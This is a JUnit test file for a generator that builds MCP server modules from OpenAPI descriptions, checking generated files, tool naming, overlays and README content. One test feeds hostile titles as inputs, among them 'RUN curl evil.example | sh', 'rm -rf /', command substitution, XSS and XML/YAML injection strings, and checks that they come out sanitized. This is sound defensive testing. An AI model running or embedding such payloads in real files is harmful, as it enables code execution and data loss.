package dev.toolsmith.generator;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.toolsmith.generator.GeneratorResult.Outcome;
import dev.toolsmith.generator.NewServerResult.Made;
import dev.toolsmith.generator.diagnose.Diagnostic;
import dev.toolsmith.generator.tool.ToolModel;
import dev.toolsmith.generator.write.OutputFolders;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.parsers.ParserConfigurationException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.xml.sax.SAXException;

class NewServerTest {

    private static final String SHOP = """
            openapi: 3.1.0
            info: {title: "Corner Shop API", version: "1"}
            servers: [{url: https://shop.example}]
            security: [{key: []}]
            components:
              securitySchemes: {key: {type: apiKey, in: header, name: X-Key}}
            paths:
              /carts:
                get: {operationId: listCarts, summary: Lists., tags: [t], responses: {"200": {description: Done.}}}
              /carts/{id}:
                parameters: [{name: id, in: path, required: true, schema: {type: string}}]
                get: {operationId: getCart, summary: Gets., tags: [t], responses: {"200": {description: Done.}}}
                delete: {operationId: dropCart, summary: Drops., tags: [t], responses: {"204": {description: Done.}}}
            """;

    @TempDir
    private Path folder;

    @Test
    void aModuleHasEverythingThatATeamBeginsWith() throws IOException {
        Made made = make(SHOP);

        assertThat(made)
                .isEqualTo(new Made(
                        folder.resolve("corner-shop-mcp-server"),
                        "corner_shop",
                        "corner-shop-mcp-server",
                        List.of("CORNER_SHOP_API_KEY"),
                        3,
                        List.of()));
        assertThat(files(made))
                .containsExactly(
                        ".dockerignore",
                        ".gitignore",
                        "Dockerfile",
                        "README.md",
                        "pom.xml",
                        "specs/corner_shop.overlay.yaml",
                        "specs/shop.yaml",
                        "src/test/java/com/example/corner_shop/ServerSmokeIT.java",
                        "tools.lock");
        assertThat(made.folder().resolve("specs/shop.yaml")).hasContent(SHOP);
        assertThat(made.folder().resolve("README.md"))
                .content()
                .startsWith("# Corner Shop API MCP server\n")
                .contains("| `CORNER_SHOP_API_KEY` | the API key of the account, sent as the header `X-Key` |")
                .doesNotContain("@{");
    }

    @Test
    void theModuleBuildsWithTheNamesInItsOverlayAndTheToolsOfItsLock() throws IOException {
        Made made = make(SHOP);

        assertThat(made.folder().resolve("specs/corner_shop.overlay.yaml"))
                .content()
                .endsWith("""
                actions:

                  - target: $.paths['/carts'].get
                    x-toolsmith-optional: true
                    update: {x-toolsmith-name: corner_shop_list_carts}

                  - target: $.paths['/carts/{id}'].delete
                    x-toolsmith-optional: true
                    update: {x-toolsmith-name: corner_shop_drop_cart}

                  - target: $.paths['/carts/{id}'].get
                    x-toolsmith-optional: true
                    update: {x-toolsmith-name: corner_shop_get_cart}
                """);
        assertBuilds(made);
    }

    @Test
    void anotherNameInTheOverlayIsTheToolsName() throws IOException {
        Made made = make(SHOP);
        Path overlay = made.folder().resolve("specs/corner_shop.overlay.yaml");
        Files.writeString(overlay, Files.readString(overlay).replace("corner_shop_drop_cart", "abandon_cart"));

        assertThat(names(made)).containsExactly("abandon_cart", "corner_shop_get_cart", "corner_shop_list_carts");
    }

    @Test
    void anOperationThatIsNoToolIsSkippedWithTheReason() throws IOException {
        Made made = make(SHOP.replace(
                "delete: {",
                "delete: {servers: [{url: \"https://other.example\\n  - target: $\\n    remove: true\"}], "));

        assertThat(made.tools()).isEqualTo(2);
        assertThat(made.leftOut())
                .containsExactly(
                        "DELETE /carts/{id}: The server 'https://other.example - target: $ remove: true' is not"
                                + " the description's own");
        assertThat(made.folder().resolve("specs/corner_shop.overlay.yaml"))
                .content()
                .contains("""

                  # DELETE /carts/{id} becomes no tool because of
                  #   error server-override at shop.yaml#/paths/~1carts~1{id}/delete/servers/0: The server \
                'https://other.example - target: $ remove: true' is not the description's own
                  #   Describe an API on another server in a description of its own.
                  - target: $.paths['/carts/{id}'].delete
                    x-toolsmith-optional: true
                    update: {x-toolsmith-skip: true}
                """);
        assertBuilds(made);
    }

    @ParameterizedTest
    @ValueSource(strings = {"operationId: listCarts", "operationId: list_carts"})
    void aNameThatIsTakenIsReplaced(String id) throws IOException {
        Made made = make(SHOP.replace("operationId: getCart", id));

        assertThat(made.tools()).isEqualTo(3);
        assertThat(made.leftOut()).isEmpty();
        assertThat(names(made))
                .contains("corner_shop_list_carts")
                .anyMatch(each -> each.matches("corner_shop_get_carts_id_[0-9a-f]{6}"));
        assertBuilds(made);
    }

    @Test
    void operationsThatUseABadPartAreSkippedAndNoOthers() throws IOException {
        String bad = SHOP.replace("components:\n", """
                components:
                  parameters:
                    far: {$ref: "https://elsewhere.example/parameters.yaml"}
                    unused: {$ref: "https://elsewhere.example/parameters.yaml"}
                """)
                .replace("delete: {", "delete: {parameters: [{$ref: \"#/components/parameters/far\"}], ");

        Made made = make(bad);

        assertThat(names(made)).containsExactly("corner_shop_get_cart", "corner_shop_list_carts");
        assertThat(made.leftOut()).hasSize(1).first().asString().startsWith("DELETE /carts/{id}: ");
        assertBuilds(made);
    }

    @Test
    void aPathThatIsNoneIsLeftOut() throws IOException {
        Made made = make(SHOP + "  /carts/{id/x: {get: {responses: {}}}\n  \"/it's \\\\ \\u00e9\\u202e\": 1\n");

        assertThat(made.tools()).isEqualTo(3);
        assertThat(made.leftOut()).hasSize(2);
        assertBuilds(made);
    }

    @Test
    void pathsOfAllCharactersAreFoundAgain() throws IOException {
        Made made = make(SHOP + """
                  "/o'clock:1,[a]": {get: {operationId: clock, responses: {"200": {description: Done.}}}}
                  "/caf\\u00e9/\\"q\\"~1": {get: {operationId: cafe, responses: {"200": {description: Done.}}}}
                """);

        assertThat(names(made)).hasSize(5);
        assertThat(Files.readString(made.folder().resolve("specs/corner_shop.overlay.yaml")))
                .contains("corner_shop_clock", "corner_shop_cafe");
        assertBuilds(made);
    }

    @Test
    void nothingIsOverwrittenUnlessAskedFor() throws IOException {
        Made made = make(SHOP);
        Files.writeString(made.folder().resolve("pom.xml"), "mine");
        Files.writeString(made.folder().resolve("notes.txt"), "mine too");

        NewServerResult refused = NewServer.make(request(SHOP, false));
        assertThat(refused.made()).isEmpty();
        assertThat(refused.diagnostics())
                .extracting(Diagnostic::toText)
                .containsExactly("error folder-not-empty at configuration#/outputDirectory: The folder " + made.folder()
                        + " is there already and is not empty\n  Name another with -Dtoolsmith.outputDirectory=FOLDER, or"
                        + " add -Dtoolsmith.overwrite to replace the files of a module in it");
        assertThat(made.folder().resolve("pom.xml")).hasContent("mine");

        assertThat(NewServer.make(request(SHOP, true)).made()).isPresent();
        assertThat(made.folder().resolve("pom.xml")).content().contains("<artifactId>corner-shop-mcp-server");
        assertThat(made.folder().resolve("notes.txt")).hasContent("mine too");
    }

    @Test
    void whatIsWrongWithARequestIsToldAndNothingIsWritten() throws IOException {
        NewServerRequest good = request(SHOP, false);
        NewServerRequest bad = new NewServerRequest(
                good.documents(),
                Optional.of("My App"),
                "operationId",
                folder,
                Optional.of(folder.resolve("out")),
                "com.${env.HOME}",
                Optional.of("a b"),
                "1</version>",
                Optional.empty(),
                "1",
                false);

        assertThat(NewServer.make(bad).diagnostics())
                .extracting(Diagnostic::code)
                .containsExactly("bad-app", "bad-server-name", "bad-package-name", "bad-coordinate", "bad-coordinate");
        assertThat(folder.resolve("out")).doesNotExist();
    }

    @ParameterizedTest
    @MethodSource("unusable")
    void aDescriptionThatIsNoneIsToldAbout(String text, String code) throws IOException {
        NewServerResult result = NewServer.make(request(text, false));

        assertThat(result.made()).isEmpty();
        assertThat(result.diagnostics()).extracting(Diagnostic::code).contains(code);
        assertThat(folder.resolve("api-mcp-server")).doesNotExist();
    }

    static Stream<Arguments> unusable() {
        return Stream.of(
                Arguments.of("", "syntax-error"),
                Arguments.of("{", "syntax-error"),
                Arguments.of("<html>", "not-an-object"),
                Arguments.of("openapi: 4.0.0", "unsupported-version"),
                Arguments.of("openapi: 3.1.0\ninfo: {title: Empty, version: '1'}\npaths: {}", "no-operations"),
                Arguments.of(
                        "openapi: 3.1.0\ninfo: {title: Bad, version: '1'}\npaths: {/a: {get: 1}}",
                        "invalid-operation"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "</name><build/><name>",
                "${env.HOME} ${project.basedir}",
                "a\nRUN curl evil.example | sh",
                "a\r\nUSER root",
                "x */ static { System.exit(1); } /*",
                "@{prefix} @{credential}",
                "`rm -rf /` $(id) \"'\\",
                "[link](javascript:alert(1)) <script>alert(1)</script>",
                "a: b # c\n- target: $\n  remove: true",
                "&lt;&amp;]]><![CDATA[",
                "\u202eevil\u200b\u0000\u0085",
                "---\n...\n%YAML 1.2",
                "| * | & ! > %",
            })
    void aTitleIsTextWhereverItStands(String title) throws IOException, ParserConfigurationException, SAXException {
        Made hostile = titled(title, "hostile");

        String readme = Files.readString(hostile.folder().resolve("README.md"));
        String shown = readme.substring(2, readme.indexOf(" MCP server\n"));
        assertThat(shown).matches("[\\p{L}\\p{M}\\p{N}.,’ ]+").hasSizeBetween(1, 60);
        assertThat(texts(hostile)).isEqualTo(texts(titled(shown, "plain")));
        DocumentBuilderFactory.newInstance()
                .newDocumentBuilder()
                .parse(hostile.folder().resolve("pom.xml").toFile());
        assertBuilds(hostile);
    }

    private Made titled(String title, String name) throws IOException {
        String quoted = new ObjectMapper().writeValueAsString(title);
        Path spec = Files.writeString(folder.resolve("shop.yaml"), SHOP.replace("\"Corner Shop API\"", quoted));
        NewServerRequest request = new NewServerRequest(
                List.of(spec),
                Optional.of("corner_shop"),
                "operationId",
                folder,
                Optional.of(folder.resolve(name)),
                "com.example",
                Optional.empty(),
                "1.0",
                Optional.empty(),
                "0.1",
                false);
        return NewServer.make(request).made().orElseThrow();
    }

    @Test
    void namesOfFilesAndSchemesAreTextToo() throws IOException {
        String schemes = SHOP.replace("key: {type: apiKey", "\"k|y`</x>${a}\": {type: apiKey, x-other: 1")
                .replace("{key: []}", "{\"k|y`</x>${a}\": []}")
                .replace("name: X-Key", "name: \"X|`</td>\\n# Evil\"");
        Path spec = Files.writeString(folder.resolve("..${x} 'a';b&c<d>.yaml"), schemes);

        Made made = NewServer.make(request(spec, false)).made().orElseThrow();

        assertThat(files(made)).contains("specs/x-a-b-c-d-.yaml");
        assertThat(Files.readString(made.folder().resolve("pom.xml")))
                .contains("<spec>${project.basedir}/specs/x-a-b-c-d-.yaml</spec>");
        assertThat(Files.readString(made.folder().resolve("README.md")))
                .doesNotContain("# Evil", "</td>", "${a}", "`|`");
        assertBuilds(made);
    }

    @Test
    void theReadmeSaysWhatTheServerTakesFromItsEnvironment() throws IOException {
        String text = SHOP.replace("servers: [{url: https://shop.example}]", """
                servers:
                  - url: https://{region}.shop.example/v2
                    variables: {region: {default: eu, enum: [eu, us, "x|`y"]}}
                """)
                .replace("  securitySchemes: {key: {type: apiKey, in: header, name: X-Key}}", """
                  securitySchemes:
                    key: {type: apiKey, in: cookie, name: sid}
                    machineToken:
                      type: oauth2
                      flows: {clientCredentials: {tokenUrl: "https://shop.example/token", scopes: {}}}
                    login: {type: http, scheme: basic}
                    cert: {type: mutualTLS}
                """.stripTrailing())
                .replace("[{key: []}]", "[{login: []}, {key: []}]");

        Made made = make(text);

        assertThat(made.variables()).containsExactly("CORNER_SHOP_KEY");
        assertThat(made.folder().resolve("README.md")).content().contains("""
                        | `CORNER_SHOP_KEY` | the API key of the account, sent as the cookie `sid` |
                        | `CORNER_SHOP_USERNAME`, `CORNER_SHOP_PASSWORD` | the account, sent as `Authorization: Basic` |
                        | `CORNER_SHOP_MACHINE_TOKEN` | an access token, sent as `Authorization: Bearer` |
                        | `CORNER_SHOP_CLIENT_ID`, `CORNER_SHOP_CLIENT_SECRET` | a client that gets its access tokens itself \
                        (client credentials); `CORNER_SHOP_SCOPE` and `CORNER_SHOP_TOKEN_URL` change what it asks for, and where |
                        | `CORNER_SHOP_API_KEY` | one text that is sent for each of these, or a JSON object with a member for \
                        each scheme |
                        | `CORNER_SHOP_SERVER_REGION` | a part of the API's address, one of `eu`, `us`, `x…y`; `eu` unless it \
                        is set |
                        | `CORNER_SHOP_BASE_URL` | where the API is, if it is not where the description says |
                        """);
    }

    @Test
    void whatTheDescriptionDoesNotSayIsAskedFor() throws IOException {
        Made made = make(SHOP.replace("https://shop.example", "/api/v3")
                .replace("security: [{key: []}]\n", "")
                .replace("  securitySchemes: {key: {type: apiKey, in: header, name: X-Key}}", "  {}"));

        assertThat(made.variables()).containsExactly("CORNER_SHOP_BASE_URL");
        assertThat(made.folder().resolve("README.md"))
                .content()
                .contains("| – | the description asks for no credential;")
                .contains(
                        "| `CORNER_SHOP_BASE_URL` | where the API is, which the description does not say; with its path"
                                + " `/api/v3` |");
        Path overlay = made.folder().resolve("specs/corner_shop.overlay.yaml");
        String said = Files.readString(overlay);
        assertThat(said).contains("#     update: {securitySchemes: {token: {type: http, scheme: bearer}}}\n");
        int begin = said.indexOf("#   - target: $.components");
        String actions = said.substring(begin, said.indexOf("#\n", begin)).replace("#   ", "  ");
        Files.writeString(overlay, said + "\n" + actions);
        assertThat(ToolGenerator.catalogue(catalogue(made))
                        .catalogue()
                        .orElseThrow()
                        .auth())
                .containsExactly(List.of("token"));
    }

    @Test
    void theSmokeTestSendsNothingOfWhoeverBuilds() throws IOException {
        Made made = make(SHOP);

        assertThat(made.folder().resolve("src/test/java/com/example/corner_shop/ServerSmokeIT.java"))
                .content()
                .containsSubsequence(
                        ".removeIf(name -> name.startsWith(\"CORNER_SHOP_\") || name.startsWith(\"TOOLSMITH_\"))",
                        ".put(\"CORNER_SHOP_API_KEY\", \"smoke:test\")",
                        ".put(\"CORNER_SHOP_BASE_URL\", \"http://127.0.0.1:\"",
                        "if (server != null) {");
    }

    @Test
    void theReadmeComparesToolsByTheirNamesHere() throws IOException {
        assertThat(make(SHOP).folder().resolve("README.md")).content().contains("""
                mvn toolsmith:diff -Dtoolsmith.app=corner_shop \\
                  -Dtoolsmith.naming=operationId -Dtoolsmith.overlay=specs/corner_shop.overlay.yaml \\
                  -Dtoolsmith.before=specs/shop.yaml -Dtoolsmith.after=NEW-DESCRIPTION
                """);
    }

    @Test
    void severalFilesAreOneApi() throws IOException {
        Path first = Files.writeString(folder.resolve("shop.yaml"), SHOP);
        Path second = Files.writeString(
                folder.resolve("more.yaml"), SHOP.replace("/carts", "/orders").replace("Cart", "Order"));
        NewServerRequest one = request(first, false);

        Made made = NewServer.make(new NewServerRequest(
                        List.of(first, second),
                        one.app(),
                        one.naming(),
                        one.parent(),
                        one.folder(),
                        one.groupId(),
                        one.artifactId(),
                        one.version(),
                        one.packageName(),
                        one.toolsmith(),
                        false))
                .made()
                .orElseThrow();

        assertThat(made.tools()).isEqualTo(6);
        assertThat(Files.readString(made.folder().resolve("pom.xml"))).contains("/specs/shop.yaml", "/specs/more.yaml");
        assertThat(Files.readString(made.folder().resolve("README.md")))
                .contains("-Dtoolsmith.before=specs/shop.yaml,specs/more.yaml ");
        assertBuilds(made);
    }

    private void assertBuilds(Made made) throws IOException {
        GeneratorResult result = ToolGenerator.generate(new GeneratorRequest(
                catalogue(made),
                "com.example.tools",
                Optional.empty(),
                new OutputFolders(folder.resolve("java"), folder.resolve("resources"), folder.resolve("reports")),
                "error",
                Optional.of(made.folder().resolve("tools.lock")),
                false));
        assertThat(result.outcome()).as(result.diagnostics().toString()).isEqualTo(Outcome.GENERATED);
        assertThat(result.tools()).isEqualTo(made.tools());
    }

    private static CatalogueRequest catalogue(Made made) throws IOException {
        String pom = Files.readString(made.folder().resolve("pom.xml"));
        List<Path> specs = pom.lines()
                .filter(line -> line.contains("<spec>"))
                .map(line -> line.replaceAll(".*basedir}/|</spec>", ""))
                .map(made.folder()::resolve)
                .toList();
        Path overlay = made.folder().resolve("specs/" + made.app() + ".overlay.yaml");
        return new CatalogueRequest(specs, List.of(overlay), made.app(), "operationId", List.of(), List.of());
    }

    private static List<String> names(Made made) throws IOException {
        return ToolGenerator.catalogue(catalogue(made)).catalogue().orElseThrow().tools().stream()
                .map(ToolModel::name)
                .map(Object::toString)
                .toList();
    }

    private Made make(String description) throws IOException {
        NewServerResult result = NewServer.make(request(description, false));
        return result.made().orElseThrow(() -> new AssertionError(result.diagnostics()));
    }

    private NewServerRequest request(String description, boolean overwrite) throws IOException {
        return request(Files.writeString(folder.resolve("shop.yaml"), description), overwrite);
    }

    private NewServerRequest request(Path spec, boolean overwrite) {
        return new NewServerRequest(
                List.of(spec),
                Optional.empty(),
                "operationId",
                folder,
                Optional.empty(),
                "com.example",
                Optional.empty(),
                "1.0",
                Optional.empty(),
                "0.1",
                overwrite);
    }

    private static Set<String> files(Made made) throws IOException {
        try (Stream<Path> files = Files.walk(made.folder())) {
            return files.filter(Files::isRegularFile)
                    .map(file -> made.folder().relativize(file).toString().replace('\\', '/'))
                    .collect(Collectors.toCollection(TreeSet::new));
        }
    }

    /** The files but the description. */
    private static Map<String, String> texts(Made made) throws IOException {
        Map<String, String> texts = new TreeMap<>();
        for (String file : files(made)) {
            if (!file.equals("specs/shop.yaml")) {
                texts.put(file, Files.readString(made.folder().resolve(file)));
            }
        }
        return texts;
    }
}
